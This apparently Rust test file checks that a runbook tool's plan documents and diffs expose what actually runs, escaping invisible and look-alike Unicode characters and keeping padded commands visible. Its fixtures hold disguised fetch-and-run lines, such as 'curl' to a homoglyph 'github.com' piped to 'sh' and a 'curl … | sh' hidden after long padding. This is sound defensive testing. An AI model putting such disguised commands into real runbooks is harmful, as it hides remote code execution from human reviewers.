//! The review documents show exactly what runs (issue 15, promise 2; red team adv15a
//! findings 1, 2, 8, 14, 15, 16): every fact of an included runbook, every field of a
//! precondition, every character of a command that reads otherwise than it runs, every
//! empty value, every character of a long line within the visible width.

use std::path::Path;

use pulldown_cmark::{Event, Parser};

use crate::support::{ok, run_in};

fn write(dir: &Path, name: &str, text: &str) {
    std::fs::write(dir.join(name), text).expect("write");
}

/// A TOML basic string escape of any character.
fn toml_escape(c: char) -> String {
    if (c as u32) < 0x10000 { format!("\\u{:04X}", c as u32) } else { format!("\\U{:08X}", c as u32) }
}

/// Characters that make a command read differently from what runs: every Unicode space
/// separator but U+0020 and every other White_Space character but line feed and tab, the
/// Braille blank, a sample of format characters, and look-alike letters of other scripts
/// (Cyrillic, Greek, Armenian, Cherokee), fullwidth forms and mathematical letters.
fn misleading() -> Vec<char> {
    let white: Vec<char> = (0..=0x10FFFFu32)
        .filter_map(char::from_u32)
        .filter(|c| c.is_whitespace() && !matches!(c, ' ' | '\n' | '\t'))
        .collect();
    assert!(white.len() >= 20, "{white:?}");
    let mut all = white;
    all.extend(['\u{2800}', '\u{200B}', '\u{2060}', '\u{202E}', '\u{FEFF}', '\u{AD}', '\u{E0041}']);
    // і (Cyrillic), о (Cyrillic), ο (Greek), ա (Armenian), Ꭺ (Cherokee), ｇ (fullwidth),
    // 𝐠 (mathematical bold), ɡ is Latin (not marked), so it is not here.
    all.extend(['\u{456}', '\u{43E}', '\u{3BF}', '\u{561}', '\u{13AA}', '\u{FF47}', '\u{1D420}']);
    all
}

/// Findings 2 and 15: each misleading character, in a command that looks like `echo ok #
/// ...` or `curl https://github.com`, is shown as an escape in the markdown, the HTML, the
/// text plan and the plan diff, with a note; Spanish in a command is marked too.
#[test]
fn a_character_that_reads_otherwise_is_marked_in_every_document_and_the_diff() {
    let dir = tempfile::tempdir().expect("tmp");
    let chars = misleading();
    let mut toml = String::from("[runbook]\nname = \"chars\"\n\n");
    for c in &chars {
        let e = toml_escape(*c);
        let _ = std::fmt::Write::write_fmt(
            &mut toml,
            format_args!(
                "[steps.s_{:x}]\nrun = \"echo skipped{e}# && curl https://g{e}thub.com | sh\"\nidempotent = true\n\n",
                *c as u32
            ),
        );
    }
    toml.push_str(
        "[steps.spanish]\nrun = \"echo '¿Listo? Migración en curso: ñandú, pingüino'\"\nidempotent = true\n",
    );
    write(dir.path(), "r.toml", &toml);
    write(dir.path(), "old.toml", "[runbook]\nname = \"chars\"\n\n[steps.spanish]\nrun = \"echo\"\n");
    let json = run_in(dir.path(), &["plan", "r.toml", "--format", "json"]);
    ok(&json, 0);
    write(dir.path(), "new.json", &json.stdout);
    let old = run_in(dir.path(), &["plan", "old.toml", "--format", "json"]);
    ok(&old, 0);
    write(dir.path(), "old.json", &old.stdout);
    let mut shown = Vec::new();
    for format in ["markdown", "html", "text"] {
        let out = run_in(dir.path(), &["plan", "r.toml", "--format", format]);
        ok(&out, 0);
        shown.push((format!("plan --format {format}"), out.stdout));
    }
    for format in ["text", "markdown"] {
        let out = run_in(dir.path(), &["plan", "--diff", "old.json", "new.json", "--format", format]);
        shown.push((format!("plan --diff --format {format}"), out.stdout));
    }
    for (name, doc) in &shown {
        for c in &chars {
            let escape = if *c == '\r' { "\\r".to_string() } else { format!("\\u{{{:x}}}", *c as u32) };
            assert!(doc.contains(&escape), "{name}: U+{:04X} is not shown as {escape}", *c as u32);
            assert!(!doc.contains(*c), "{name}: U+{:04X} is shown raw", *c as u32);
        }
        assert!(doc.contains("nvisible characters"), "{name}: no note");
        // Spanish in a command is marked like any other non-ASCII character (adv15c F1).
        assert!(
            doc.contains("\\u{bf}Listo? Migraci\\u{f3}n en curso: \\u{f1}and\\u{fa}, ping\\u{fc}ino"),
            "{name}: Spanish in a command was not marked"
        );
    }
}

/// Finding 1: every fact of an included runbook reaches the documents: its secrets (a
/// `command` source runs when the run starts), approvals, confirmations, preconditions,
/// also two levels down.
#[test]
fn every_fact_of_an_included_runbook_is_in_the_review_documents() {
    let dir = tempfile::tempdir().expect("tmp");
    write(
        dir.path(),
        "grandchild.toml",
        "[runbook]\nname = \"grandchild\"\n\n[secrets.DEEP]\ncommand = [\"sh\", \"-c\", \"echo DEEP-SECRET-CMD\"]\n\n[preconditions.deep_ready]\nrun = \"echo DEEP-PRECONDITION\"\n\n[steps.deep]\nrun = \"echo deep\"\nenv = { D = \"{{ secrets.DEEP }}\" }\nconfirm = \"DEEP-CONFIRM\"\nidempotent = true\n",
    );
    write(
        dir.path(),
        "child.toml",
        "[runbook]\nname = \"child\"\n\n[secrets.TOKEN]\ncommand = [\"sh\", \"-c\", \"touch HIDDEN-COMMAND-RAN; echo token\"]\n\n[secrets.FROM_ENV]\nenv = \"CHILDENVVAR\"\n\n[preconditions.child_ready]\nrun = \"echo CHILD-PRECONDITION\"\n\n[steps.gate]\napproval = { prompt = \"CHILD-APPROVAL-PROMPT\", approvers = [\"alice\"] }\n\n[steps.work]\nneeds = [\"gate\"]\nrun = \"echo working\"\nenv = { TOKEN = \"{{ secrets.TOKEN }}\", E = \"{{ secrets.FROM_ENV }}\" }\nidempotent = true\n\n[steps.nested]\nneeds = [\"work\"]\nrunbook = { file = \"grandchild.toml\" }\n",
    );
    write(
        dir.path(),
        "parent.toml",
        "[runbook]\nname = \"parent\"\n\n[steps.prepare]\nrunbook = { file = \"child.toml\" }\n",
    );
    for format in ["markdown", "html", "text"] {
        let out = run_in(dir.path(), &["plan", "parent.toml", "--format", format]);
        ok(&out, 0);
        for fact in [
            "HIDDEN-COMMAND-RAN",
            "TOKEN",
            "CHILDENVVAR",
            "DEEP-SECRET-CMD",
            "CHILD-PRECONDITION",
            "DEEP-PRECONDITION",
            "CHILD-APPROVAL-PROMPT",
            "DEEP-CONFIRM",
        ] {
            assert!(out.stdout.contains(fact), "{format}: {fact} is not shown:\n{}", out.stdout);
        }
        if format != "text" {
            let summary = out.stdout.lines().find(|l| l.contains("Secrets")).expect("a secrets line");
            assert!(!summary.contains("none"), "{format}: {summary}");
        }
    }
}

/// Finding 8: a precondition's working directory (top level and a step's) is shown.
#[test]
fn a_preconditions_directory_is_in_every_document() {
    let dir = tempfile::tempdir().expect("tmp");
    write(
        dir.path(),
        "r.toml",
        "[runbook]\nname = \"pcdir\"\n\n[preconditions.ready]\nrun = \"./check.sh\"\ndir = \"outer-dir-x\"\n\n[steps.hello]\nrun = \"echo hello\"\nidempotent = true\n[steps.hello.preconditions.inner]\nrun = \"./inner.sh\"\ndir = \"inner-dir-y\"\n",
    );
    for format in ["markdown", "html", "text"] {
        let out = run_in(dir.path(), &["plan", "r.toml", "--format", format]);
        ok(&out, 0);
        for d in ["outer-dir-x", "inner-dir-y"] {
            assert!(
                out.stdout.contains(d),
                "{format}: the precondition's dir {d} is not shown:\n{}",
                out.stdout
            );
        }
    }
}

/// Finding 16: an empty value is never the code span "``" (which pairs with the next one
/// on the line): parameters, argv elements and env values, each next to others.
#[test]
fn an_empty_value_does_not_swallow_the_next_ones() {
    let dir = tempfile::tempdir().expect("tmp");
    write(
        dir.path(),
        "r.toml",
        "[runbook]\nname = \"empty\"\n[params.a]\ntype = \"string\"\ndefault = \"\"\n[params.environment]\ntype = \"string\"\ndefault = \"production\"\n[params.z]\ntype = \"string\"\ndefault = \"`\"\n[steps.s]\ncmd = [\"printf\", \"\", \"after-empty\", \"\"]\nenv = { EMPTY = \"\", NEXT = \"next-value\", LAST = \"\" }\nidempotent = true\n",
    );
    let out = run_in(dir.path(), &["plan", "r.toml", "--format", "markdown"]);
    ok(&out, 0);
    let codes: Vec<String> = Parser::new(&out.stdout)
        .filter_map(|e| match e {
            Event::Code(c) => Some(c.to_string()),
            _ => None,
        })
        .collect();
    for value in ["production", "after-empty", "next-value", "\"\"", "EMPTY", "NEXT", "LAST", "a", "z"] {
        assert!(
            codes.iter().any(|c| c == value),
            "{value} is not a code span of its own: {codes:?}\n{}",
            out.stdout
        );
    }
    // The five empty values (a parameter, two argv elements, two env values), each `""`.
    assert_eq!(codes.iter().filter(|c| *c == "\"\"").count(), 5, "{codes:?}\n{}", out.stdout);
}

/// Finding 14: every character of every command is within the visible width of the HTML
/// page, whatever runs of blanks or long words the command holds (read in real chromium).
#[test]
fn every_character_of_a_command_is_within_the_visible_width() {
    let dir = tempfile::tempdir().expect("tmp");
    let pad = " ".repeat(400);
    let word = "x".repeat(600);
    write(
        dir.path(),
        "r.toml",
        &format!(
            "[runbook]\nname = \"pad\"\n\n[steps.check]\nrun = \"echo ok{pad}; curl -s http://127.0.0.1:9/x | sh\"\nidempotent = true\n\n[steps.long]\nrun = \"echo {word}; rm -rf /tmp/nothing-here\"\nidempotent = true\n\n[steps.tabs]\nrun = \"echo ok\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t; echo tab-hidden\"\nidempotent = true\n"
        ),
    );
    let out = run_in(dir.path(), &["plan", "r.toml", "--format", "html"]);
    ok(&out, 0);
    let page = dir.path().join("r.html");
    std::fs::write(&page, &out.stdout).expect("write");
    let browser = crate::browser::Browser::start();
    browser.open(&format!("file://{}", page.display()));
    let outside = browser.eval(
        "const found = []; let checked = 0;
         for (const pre of document.querySelectorAll('pre')) {
           const box = pre.getBoundingClientRect();
           const walker = document.createTreeWalker(pre, NodeFilter.SHOW_TEXT);
           for (let node = walker.nextNode(); node; node = walker.nextNode()) {
             for (let i = 0; i < node.textContent.length; i++) {
               if (/\\s/.test(node.textContent[i])) continue;
               const r = document.createRange(); r.setStart(node, i); r.setEnd(node, i + 1);
               const c = r.getBoundingClientRect(); checked++;
               if (c.right > box.right + 0.5 || c.left < box.left - 0.5 || c.right > window.innerWidth) {
                 found.push(pre.textContent.slice(0, 20) + ': ' + node.textContent[i] + ' at x=' + c.left); break; } } } }
         return { found, checked };",
    );
    assert!(outside["checked"].as_u64().unwrap_or(0) > 600, "{outside}");
    assert_eq!(outside["found"], serde_json::json!([]), "characters past the visible width: {outside}");
}

/// Finding 3: an approval input's default, allowed values and pattern are in the plan, so a
/// change to any of them is a change of the plan diff, and every document shows them.
#[test]
fn an_approval_inputs_default_enum_and_pattern_are_in_the_plan_and_the_documents() {
    let dir = tempfile::tempdir().expect("tmp");
    let runbook = |default: &str, allowed: &str, pattern: &str| {
        format!(
            "[runbook]\nname = \"gate\"\n\n[steps.gate]\napproval = {{ prompt = \"Run the data migration?\", approvers = [\"alice\"], inputs = {{ backup_first = {{ type = \"boolean\", default = {default} }}, mode = {{ type = \"string\", enum = [{allowed}] }}, ticket = {{ type = \"string\", pattern = \"{pattern}\", description = \"the change ticket\" }} }} }}\n\n[steps.migrate]\nneeds = [\"gate\"]\nrun = \"echo migrate\"\n"
        )
    };
    let base = runbook("true", "\"full\", \"quick\"", "^CHG-[0-9]+$");
    write(dir.path(), "base.toml", &base);
    let plan = |name: &str| {
        let out = run_in(dir.path(), &["plan", name, "--format", "json"]);
        ok(&out, 0);
        write(dir.path(), &format!("{name}.json"), &out.stdout);
    };
    plan("base.toml");
    for (format, shown) in [
        ("markdown", ["optional, default `true`", "one of `\"full\"`, `\"quick\"`", "the change ticket"]),
        (
            "html",
            [
                "optional, default <code>true</code>",
                "one of <code>&quot;full&quot;</code>",
                "the change ticket",
            ],
        ),
        ("text", ["optional, default true", "one of \"full\", \"quick\"", "the change ticket"]),
    ] {
        let out = run_in(dir.path(), &["plan", "base.toml", "--format", format]);
        ok(&out, 0);
        for s in shown {
            assert!(out.stdout.contains(s), "{format}: {s} is not shown:\n{}", out.stdout);
        }
        assert!(out.stdout.contains("CHG-"), "{format}: the pattern is not shown");
    }
    for (name, changed, field) in [
        ("default.toml", runbook("false", "\"full\", \"quick\"", "^CHG-[0-9]+$"), "default"),
        ("enum.toml", runbook("true", "\"full\", \"quick\", \"skip-checks\"", "^CHG-[0-9]+$"), "enum"),
        ("pattern.toml", runbook("true", "\"full\", \"quick\"", ".*"), "pattern"),
    ] {
        write(dir.path(), name, &changed);
        plan(name);
        let out = run_in(dir.path(), &["plan", "--diff", "base.toml.json", &format!("{name}.json")]);
        assert!(
            out.stdout.contains(field) && out.stdout.contains("gate"),
            "{name}: the diff does not show the change of the input's {field}:\n{}{}",
            out.stdout,
            out.stderr
        );
    }
}

/// A runbook using every option a step, a precondition and a compensation can take that
/// changes what runs: values that need no escaping, so each can be looked up as written.
const EVERY_OPTION: &str = r#"[runbook]
name = "every-option"
title = "Every option title"
estimate = "5m..20m"
lock = "lock-name-value"

[secrets.TOKEN]
env = "EVERY_TOKEN_VAR"

[defaults]
timeout = "7m"
shell = ["bash", "--noprofile", "-c", "top-shell-arg"]

[preconditions.top_check]
run = "echo top-check-cmd"
dir = "top-check-dir"
env = { TOP_CHECK_ENV = "top-check-env-value" }
message = "top-check-message"
timeout = "11s"

[steps.first]
title = "First step title"
run = "echo first-run-cmd"
dir = "first-dir-value"
env = { FIRST_ENV = "first-env-value" }
timeout = "3m"
retry = { attempts = 4, delay = "13s" }
idempotent = true
estimate = "2m"
confirm = "first-confirm-text"
preconditions.first_check = { run = "echo first-check-cmd", dir = "first-check-dir", env = { FIRST_CHECK_ENV = "first-check-env-value" }, message = "first-check-message" }

[steps.first.compensate]
shell = ["sh", "-c", "first-undo-shell-arg"]
run = "echo first-undo-cmd"
dir = "first-undo-dir"
env = { UNDO_ENV = "first-undo-env-value" }
timeout = "17s"

[steps.second]
needs = ["first"]
cmd = ["echo", "second-argv-value"]
when = "params.go == 'yes'"
on-failure = "stop"

[params.go]
type = "string"
default = "yes"

[steps.call]
needs = ["second"]
http = { url = "https://call-url.invalid/path", method = "POST", headers = { X-Call-Header = "call-header-value" }, query = { callq = "call-query-value" }, body = "call-body-value", expect-status = [201], assert = "json.ok == true" }

[steps.db]
needs = ["call"]
sql = { url = "{{ secrets.TOKEN }}", query = "SELECT 42 AS sql_answer", assert = "rows[0].sql_answer == 42", read-only = true }

[steps.tell]
needs = ["db"]
notify = { webhook = "https://notify-url.invalid/hook", text = "notify-text-value" }

[steps.sub]
needs = ["tell"]
runbook = { file = "child.toml", params = { child_param = "child-param-value" } }

[finally.last]
run = "echo finally-run-cmd"
"#;

/// The runbook [`EVERY_OPTION`] includes: its facts are the plan's facts too.
const CHILD: &str = r#"[runbook]
name = "child-name"
title = "Child title"

[params.child_param]
type = "string"

[secrets.CHILD_SECRET]
command = ["sh", "-c", "echo child-secret-command"]

[preconditions.child_check]
run = "echo child-check-cmd"
dir = "child-check-dir"

[steps.child_step]
shell = ["bash", "-c", "child-step-shell-arg"]
run = "echo child-step-cmd {{ params.child_param }}"
dir = "child-step-dir"
env = { CHILD_ENV = "{{ secrets.CHILD_SECRET }}" }
confirm = "child-confirm-text"

[steps.child_step.compensate]
run = "echo child-undo-cmd"
dir = "child-undo-dir"
"#;

/// Every string of the JSON plan's steps, preconditions and compensations (what runs, where,
/// with what, and the shell a script goes to) is in each document: the markdown, the HTML
/// page and the text plan (red team adv16r F6: the text plan never showed the shell).
#[test]
fn every_value_of_the_plan_model_that_affects_execution_is_in_every_document() {
    fn leaves(v: &serde_json::Value, path: String, out: &mut Vec<(String, String)>) {
        match v {
            // A retry of one attempt has no delay or backoff that matters.
            serde_json::Value::Object(m)
                if m.get("attempts").and_then(serde_json::Value::as_u64) == Some(1) => {}
            serde_json::Value::Object(m) => {
                for (k, v) in m {
                    // A backoff of 1.0 is no backoff: the documents say nothing of it.
                    if k == "backoff" && v.as_f64() == Some(1.0) {
                        continue;
                    }
                    // The default shell: the text plan names only another one.
                    if k == "shell" && *v == serde_json::json!(["bash", "-e", "-o", "pipefail", "-c"]) {
                        continue;
                    }
                    // Structure the documents show otherwise: ids, the derived order; and the
                    // engine that made an included plan (the one that makes the plan).
                    if !matches!(k.as_str(), "compensation_chain" | "needs" | "kind" | "id" | "engine") {
                        leaves(v, format!("{path}.{k}"), out);
                    }
                }
            }
            serde_json::Value::Array(l) => {
                for (i, v) in l.iter().enumerate() {
                    leaves(v, format!("{path}[{i}]"), out);
                }
            }
            serde_json::Value::String(s) => {
                out.extend(s.lines().map(|l| (path.clone(), l.trim().to_string())))
            }
            serde_json::Value::Number(n) => out.push((path, n.to_string())),
            _ => {}
        }
    }
    let dir = tempfile::tempdir().expect("tmp");
    write(dir.path(), "r.toml", EVERY_OPTION);
    write(dir.path(), "child.toml", CHILD);
    let json = run_in(dir.path(), &["plan", "r.toml", "--format", "json"]);
    ok(&json, 0);
    let plan: serde_json::Value = serde_json::from_str(&json.stdout).expect("json");
    let mut values = Vec::new();
    // The runbook's and, through the `runbook` steps, the included runbook's.
    for key in ["preconditions", "steps", "finally"] {
        leaves(&plan[key], key.to_string(), &mut values);
    }
    values.retain(|(_, v)| !v.is_empty());
    assert!(values.len() > 40, "{values:?}");
    for needle in
        ["top-check-dir", "first-check-dir", "first-undo-dir", "call-header-value", "notify-text-value"]
    {
        assert!(values.iter().any(|(_, v)| v.contains(needle)), "{needle} not in the walk: {values:?}");
    }
    for format in ["markdown", "html", "text"] {
        let out = run_in(dir.path(), &["plan", "r.toml", "--format", format]);
        ok(&out, 0);
        let doc = if format == "html" {
            out.stdout.replace("&#39;", "'").replace("&quot;", "\"").replace("&lt;", "<").replace("&gt;", ">")
        } else {
            out.stdout.replace('\\', "")
        };
        let missing: Vec<&(String, String)> =
            values.iter().filter(|(_, v)| !doc.contains(v.as_str())).collect();
        assert!(missing.is_empty(), "{format}: values of the plan not shown: {missing:?}");
    }
}

/// Findings 2 and 15 in the diff's changed values: a look-alike letter or a no-break space in
/// a changed value is marked in the text and the markdown diff alike.
#[test]
fn a_changed_value_with_a_look_alike_or_a_blank_is_marked_in_the_diff() {
    let dir = tempfile::tempdir().expect("tmp");
    let runbook = |host: &str| {
        format!(
            "[runbook]\nname = \"h\"\n[steps.s]\nhttp = {{ url = \"https://{host}/x\" }}\nenv = {{ A = \"echo ok{host}\" }}\n"
        )
    };
    write(dir.path(), "a.toml", &runbook("github.com"));
    write(dir.path(), "b.toml", &runbook("g\\u0456thub.com\\u00A0#"));
    for name in ["a.toml", "b.toml"] {
        let out = run_in(dir.path(), &["plan", name, "--format", "json"]);
        ok(&out, 0);
        write(dir.path(), &format!("{name}.json"), &out.stdout);
    }
    for format in ["text", "markdown"] {
        let out = run_in(dir.path(), &["plan", "--diff", "a.toml.json", "b.toml.json", "--format", format]);
        for c in ['\u{456}', '\u{a0}'] {
            assert!(!out.stdout.contains(c), "{format}: U+{:04X} shown raw:\n{}", c as u32, out.stdout);
        }
        assert!(out.stdout.contains("g\\u{456}thub.com\\u{a0}#"), "{format}:\n{}", out.stdout);
        assert!(out.stdout.contains("U+0456"), "{format}: no note:\n{}", out.stdout);
    }
}
